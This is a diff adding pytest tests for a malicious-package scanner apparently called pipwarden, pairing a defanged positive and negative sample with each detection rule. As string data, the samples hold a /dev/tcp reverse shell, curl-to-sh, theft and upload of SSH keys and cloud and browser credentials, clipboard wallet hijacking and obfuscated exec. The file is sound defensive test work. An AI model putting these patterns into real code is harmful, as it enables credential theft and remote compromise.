@@ -1,0 +1,502 @@
+"""Each rule: one positive and one negative sample (defanged: example.invalid, inert)."""
+
+from __future__ import annotations
+
+import base64
+import codecs
+import marshal
+import zlib
+from pathlib import Path
+
+import pytest
+
+from pipwarden.scan import scan_target
+from pipwarden.scan.engine import FileContext, analyse_member
+from pipwarden.scan.rules import CATALOGUE
+from tests.support.builders import build_sdist, build_wheel
+
+INERT = "print('inert sample')"
+B64 = base64.b64encode(INERT.encode()).decode()
+HEX = INERT.encode().hex()
+ZLIB = zlib.compress(INERT.encode())
+ROT = codecs.encode(INERT, "rot13")
+URL = "https://example.invalid/x"
+_NOISY = "".join(c for c in map(chr, range(33, 127)) if c not in "'\"\\")
+
+
+def rules_of(source: str | bytes, name: str = "pkg/mod.py", kind: str = "wheel") -> set[str]:
+    data = source.encode() if isinstance(source, str) else source
+    return {f.rule for f in analyse_member(FileContext(name, kind, kind == "wheel"), data)}
+
+
+# (rule, positive, negative, member name, target kind)
+CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
+    (
+        "install-hook.network",
+        f"import urllib.request\nurllib.request.urlopen({URL!r})\nsetup(name='x')\n",
+        "from setuptools import setup\nsetup(name='x')\n",
+        "p-1/setup.py",
+        "sdist",
+    ),
+    (
+        "install-hook.process",
+        "import subprocess\nsubprocess.call(['make'])\n",
+        "import subprocess\ndef build():\n    subprocess.call(['make'])\n",
+        "p-1/setup.py",
+        "sdist",
+    ),
+    (
+        "install-hook.cmdclass",
+        "from setuptools import setup\nfrom setuptools.command.build_py import build_py\n"
+        "class B(build_py):\n    def run(self):\n        build_py.run(self)\n"
+        "setup(name='x', cmdclass={'build_py': B})\n",
+        "from setuptools import setup\nclass B:\n    pass\nsetup(name='x')\n",
+        "p-1/setup.py",
+        "sdist",
+    ),
+    (
+        "install-hook.cmdclass-payload",
+        "import urllib.request\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class I(install):\n    def run(self):\n"
+        f"        urllib.request.urlopen({URL!r})\n        install.run(self)\n"
+        "setup(name='x', cmdclass={'install': I})\n",
+        "from setuptools import setup\nfrom setuptools.command.install import install\n"
+        "class I(install):\n    def run(self):\n        install.run(self)\n"
+        "setup(name='x', cmdclass={'install': I})\n",
+        "p-1/setup.py",
+        "sdist",
+    ),
+    (
+        "install-hook.in-tree-backend",
+        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
+        "p-1/pyproject.toml",
+        "sdist",
+    ),
+    (
+        "startup-hook.pth-exec",
+        "import os; os.environ.setdefault('X', '1')\n",
+        "/opt/extra/lib\n",
+        "extra.pth",
+        "wheel",
+    ),
+    (
+        "startup-hook.pth-payload",
+        "import os; os.system('id')\n",
+        "import os; os.environ.setdefault('X', '1')\n",
+        "extra.pth",
+        "wheel",
+    ),
+    ("startup-hook.sitecustomize", "x = 1\n", "x = 1\n", "sitecustomize.py", "wheel"),
+    (
+        "startup-hook.import-network",
+        f"import urllib.request\nurllib.request.urlopen({URL!r})\n",
+        f"import urllib.request\ndef f():\n    return urllib.request.urlopen({URL!r})\n",
+        "pkg/__init__.py",
+        "wheel",
+    ),
+    (
+        "startup-hook.import-process",
+        "import subprocess\nsubprocess.run(['id'])\n",
+        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['id'])\n",
+        "pkg/__init__.py",
+        "wheel",
+    ),
+    (
+        "obfuscation.exec-decoded",
+        f"import base64\nexec(base64.b64decode({B64!r}))\n",
+        "exec(compile(open('version.py').read(), 'version.py', 'exec'))\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "obfuscation.marshal-literal",
+        f"import marshal\nc = marshal.loads({marshal.dumps(compile(INERT, 'x', 'exec'))!r})\n",
+        "import marshal\ndef load(f):\n    return marshal.loads(f.read())\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "obfuscation.hidden-name",
+        "f = getattr(__builtins__, 'ex' + 'ec')\n",
+        "f = getattr(obj, 'name')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "obfuscation.encoded-blob",
+        f"BLOB = {base64.b64encode(bytes(range(256)) * 2).decode()!r}\n",
+        f"NAME = {'abcdefgh_' * 40!r}\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "obfuscation.high-entropy",
+        "K = '" + "".join(_NOISY[(i * 37) % len(_NOISY)] for i in range(300)) + "'\n",
+        "K = '" + "ab" * 200 + "'\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "download-execute.remote-code",
+        f"from urllib.request import urlopen\nexec(urlopen({URL!r}).read())\n",
+        f"import json\nfrom urllib.request import urlopen\ndata = json.loads(urlopen({URL!r}).read())\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "download-execute.remote-command",
+        "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n",
+        "import os\nos.system('git status')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "download-execute.drop-and-run",
+        "import os, urllib.request\ndef go():\n"
+        f"    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n    os.system('/tmp/x')\n",
+        f"import urllib.request\ndef go():\n    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "exfiltration.credentials",
+        "import os, requests\ndef f():\n"
+        "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        f"    requests.post({URL!r}, data=key)\n",
+        "import requests\ndef f():\n    cfg = open('config.json').read()\n"
+        f"    requests.post({URL!r}, data=cfg)\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "exfiltration.host-info",
+        f"import socket, requests\ndef f():\n    requests.post({URL!r}, data={{'h': socket.gethostname()}})\n",
+        f"import requests\ndef f():\n    requests.post({URL!r}, data={{'a': 1}})\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "exfiltration.credential-access",
+        "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
+        "def f():\n    return open('settings.ini').read()\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "exfiltration.browser-data",
+        "import os\ndef f(base):\n"
+        "    return open(os.path.join(base, 'Google/Chrome/User Data/Default/Login Data'), 'rb')\n",
+        "def f():\n    return open('data.db', 'rb')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "reverse-shell.socket-shell",
+        "import socket, os, pty\ndef f():\n    s = socket.socket()\n"
+        "    s.connect(('example.invalid', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
+        "import socket\ndef f():\n    s = socket.socket()\n"
+        "    s.connect(('example.invalid', 80))\n    s.sendall(b'ping')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "reverse-shell.command",
+        "import os\nos.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')\n",
+        "import os\nos.system(\"bash -c 'echo hi'\")\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "persistence.autostart",
+        "def f():\n    open('/etc/cron.d/job', 'w').write('* * * * * true\\n')\n",
+        "def f():\n    return open('/etc/hosts').read()\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "persistence.shell-rc",
+        "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
+        "        fh.write('alias ll=ls\\n')\n",
+        "import os\ndef f():\n    return open(os.path.expanduser('~/.bashrc')).read()\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "persistence.payload",
+        "import base64\ndef f():\n    with open('/etc/cron.d/job', 'wb') as fh:\n"
+        f"        fh.write(base64.b64decode({B64!r}))\n",
+        "def f():\n    with open('/etc/cron.d/job', 'w') as fh:\n        fh.write('* * * * * true')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "hidden-process.detached",
+        "import subprocess\ndef f(cmd):\n"
+        "    subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)\n",
+        "import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd)\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "suspicious-endpoint.paste-site",
+        "U = 'https://pastebin.com/raw/abc'\n",
+        f"U = {URL!r}\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "suspicious-endpoint.webhook",
+        "U = 'https://discord.com/api/webhooks/1/abc'\n",
+        "U = 'https://discord.com/developers/docs'\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "suspicious-endpoint.tunnel",
+        "U = 'https://abc123.ngrok.io/collect'\n",
+        "U = 'https://docs.example.invalid/tunnels'\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "suspicious-endpoint.dynamic-dns",
+        "U = 'http://evil.duckdns.org/x'\n",
+        "U = 'http://ducks.example.invalid/x'\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "suspicious-endpoint.raw-ip",
+        "U = 'http://8.8.4.4/payload'\n",
+        "U = 'http://127.0.0.1:8000/ and http://10.0.0.1/'\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "suspicious-endpoint.contacted",
+        "import requests\ndef f():\n    requests.get('https://abc.ngrok.io/a')\n",
+        "def f():\n    print('https://abc.ngrok.io/a')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "clipboard.read",
+        "import pyperclip\ndef f():\n    return pyperclip.paste()\n",
+        "import pyperclip\ndef f():\n    pyperclip.copy('x')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "clipboard.wallet-hijack",
+        "import re, pyperclip\nBTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\n"
+        "def f():\n    text = pyperclip.paste()\n    if BTC.match(text):\n"
+        "        pyperclip.copy('bc1-attacker-address-placeholder')\n",
+        "import pyperclip\ndef f():\n    text = pyperclip.paste()\n    pyperclip.copy(text.upper())\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "clipboard.wallet-files",
+        "import os\ndef f(home):\n    return open(os.path.join(home, '.bitcoin', 'wallet.dat'), 'rb')\n",
+        "def f():\n    return open('wall.txt', 'rb')\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "unsafe-deserialization.pickle",
+        "import pickle\ndef f(data):\n    return pickle.loads(data)\n",
+        "import json\ndef f(data):\n    return json.loads(data)\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "unsafe-deserialization.yaml",
+        "import yaml\ndef f(s):\n    return yaml.load(s)\n",
+        "import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.SafeLoader), yaml.safe_load(s)\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "unsafe-deserialization.remote",
+        f"import pickle, requests\ndef f():\n    return pickle.loads(requests.get({URL!r}).content)\n",
+        "import pickle\ndef f():\n    return pickle.loads(open('cache.pkl', 'rb').read())\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    ("parse.not-parsed", "print 'hello'\n", "print('hello')\n", "pkg/mod.py", "wheel"),
+    (
+        "parse.too-deep",
+        "x = " + "(" * 10000 + "1" + ")" * 10000 + "\n",
+        "x = " + "(" * 20 + "1" + ")" * 20 + "\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+]
+
+
+@pytest.mark.parametrize(("rule", "pos", "neg", "name", "kind"), CASES, ids=[c[0] for c in CASES])
+def test_rule_positive_and_negative(rule: str, pos: str, neg: str, name: str, kind: str) -> None:
+    if rule == "startup-hook.sitecustomize":
+        assert rule in rules_of(pos, name, kind)
+        assert rule not in rules_of(neg, "pkg/site_utils.py", kind)
+        return
+    assert rule in rules_of(pos, name, kind)
+    assert rule not in rules_of(neg, name, kind)
+
+
+def test_every_code_rule_has_a_case() -> None:
+    covered = {c[0] for c in CASES} | {
+        "binary-dropper.native-in-pure-wheel",
+        "binary-dropper.executable",
+    }
+    code_rules = {r.id for r in CATALOGUE if not r.id.startswith("archive.")}
+    assert code_rules - covered == set()
+
+
+ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64
+
+
+def test_binary_dropper_in_pure_wheel(tmp_path: Path) -> None:
+    name, data = build_wheel("demo", "1.0", {"demo/__init__.py": "", "demo/helper": ELF})
+    path = tmp_path / name
+    path.write_bytes(data)
+    assert "binary-dropper.native-in-pure-wheel" in {f.rule for f in scan_target(path).findings}
+    name, data = build_wheel(
+        "demo", "1.0", {"demo/_ext.so": ELF}, tag="cp311-cp311-manylinux_2_17_x86_64"
+    )
+    path = tmp_path / name
+    path.write_bytes(data)
+    assert not {f.rule for f in scan_target(path).findings}
+
+
+def test_binary_dropper_in_sdist(tmp_path: Path) -> None:
+    pe = b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 32
+    name, data = build_sdist(
+        "demo", "1.0", {"demo/tool.exe": pe, "demo/readme.txt": "MZ is a letter pair"}
+    )
+    path = tmp_path / name
+    path.write_bytes(data)
+    found = [(f.rule, f.file) for f in scan_target(path).findings]
+    assert ("binary-dropper.executable", "demo-1.0/demo/tool.exe") in found
+    assert all(f != "demo-1.0/demo/readme.txt" for _, f in found)
+
+
+# ------------------------------------------------------------------ folding
+
+
+@pytest.mark.parametrize(
+    "expr",
+    [
+        f"base64.b64decode({B64!r})",
+        f"base64.b64decode({B64.encode()!r})",
+        f"bytes.fromhex({HEX!r})",
+        f"binascii.unhexlify({HEX!r})",
+        f"zlib.decompress({ZLIB!r})",
+        f"codecs.decode({ROT!r}, 'rot13')",
+        f"{INERT[::-1]!r}[::-1]",
+        "''.join(chr(c) for c in [" + ",".join(str(ord(c)) for c in INERT) + "])",
+        "''.join(map(chr, [" + ",".join(str(ord(c)) for c in INERT) + "]))",
+        "+".join(f"chr({ord(c)})" for c in INERT),
+        f"base64.b32decode({base64.b32encode(INERT.encode())!r})",
+    ],
+)
+def test_folded_payloads_reaching_exec_are_critical(expr: str) -> None:
+    src = f"import base64, binascii, zlib, codecs\nexec({expr})\n"
+    assert "obfuscation.exec-decoded" in rules_of(src)
+
+
+@pytest.mark.parametrize(
+    "src",
+    [
+        "getattr(__builtins__, 'ex' + 'ec')(payload)",
+        "getattr(__import__('built' + 'ins'), 'exec')(payload)",
+        "__import__('o' + 's').system(cmd)",
+        "__import__(''.join(['o', 's'])).system(cmd)",
+        "getattr(__import__(bytes.fromhex('6f73').decode()), 'system')(cmd)",
+    ],
+)
+def test_hidden_names_are_resolved(src: str) -> None:
+    assert "obfuscation.hidden-name" in rules_of(src)
+
+
+def test_folded_name_resolves_to_sink() -> None:
+    src = f"import base64\nf = getattr(__builtins__, 'ex' + 'ec')\nf(base64.b64decode({B64!r}))\n"
+    assert {"obfuscation.hidden-name", "obfuscation.exec-decoded"} <= rules_of(src)
+    src = "import base64\n__import__('o'+'s').system(base64.b64decode('aWQ='))\n"
+    assert "obfuscation.exec-decoded" in rules_of(src)
+
+
+def test_dataflow_through_variables_and_fstrings() -> None:
+    src = (
+        "import os, json, urllib.request\n"
+        "def f():\n"
+        "    env = dict(os.environ)\n"
+        "    body = json.dumps({'e': env}).encode()\n"
+        f"    req = urllib.request.Request(f'{URL}', data=body)\n"
+        "    urllib.request.urlopen(req)\n"
+    )
+    assert "exfiltration.credentials" in rules_of(src)
+    # A single variable read from the environment is not a secret dump.
+    benign = src.replace("dict(os.environ)", "os.environ.get('HOME')")
+    assert "exfiltration.credentials" not in rules_of(benign)
+
+
+def test_source_and_sink_in_different_functions_are_not_linked() -> None:
+    src = (
+        "import os, requests\n"
+        "def read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+        f"def send(x):\n    requests.post({URL!r}, data=x)\n"
+    )
+    found = rules_of(src)
+    assert "exfiltration.credentials" not in found
+    assert "exfiltration.credential-access" in found
+
+
+def test_unparsed_files_still_get_byte_rules() -> None:
+    src = f"print 'py2'\nexec(base64.b64decode('{B64}'))\nu = 'https://pastebin.com/raw/x'\n"
+    found = rules_of(src)
+    assert {
+        "parse.not-parsed",
+        "obfuscation.exec-decoded",
+        "suspicious-endpoint.paste-site",
+    } <= found
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"x = 1\x00\n",
+        b"x = '\xff\xfe invalid utf-8'\n",
+        bytes(range(256)) * 4,
+        b"x = " + b"-" * 10000 + b"1\n",
+        b"x = " + b"not " * 10000 + b"1\n",
+        b"x = 1" + b" + 1" * 20000 + b"\n",
+        b"x = " + b"[" * 10000 + b"]" * 10000 + b"\n",
+        "".join(" " * i + "if x:\n" for i in range(200)).encode() + b" " * 200 + b"pass\n",
+    ],
+    ids=[
+        "nul",
+        "utf8",
+        "binary",
+        "unary-deep",
+        "not-deep",
+        "long-chain",
+        "list-deep",
+        "indent-deep",
+    ],
+)
+def test_hostile_sources_never_crash(data: bytes) -> None:
+    findings = analyse_member(FileContext("pkg/mod.py", "wheel", True), data)
+    assert all(f.file == "pkg/mod.py" for f in findings)
+
+
+def test_long_addition_chain_is_analysed() -> None:
+    src = "x = 1" + " + 1" * 20000 + f"\nimport base64\nexec(base64.b64decode({B64!r}))\n"
+    assert "obfuscation.exec-decoded" in rules_of(src)
+
+
+def test_docstrings_with_urls_are_not_endpoints() -> None:
+    src = 'def f():\n    """See https://pastebin.com/raw/abc for details."""\n'
+    assert rules_of(src) == set()
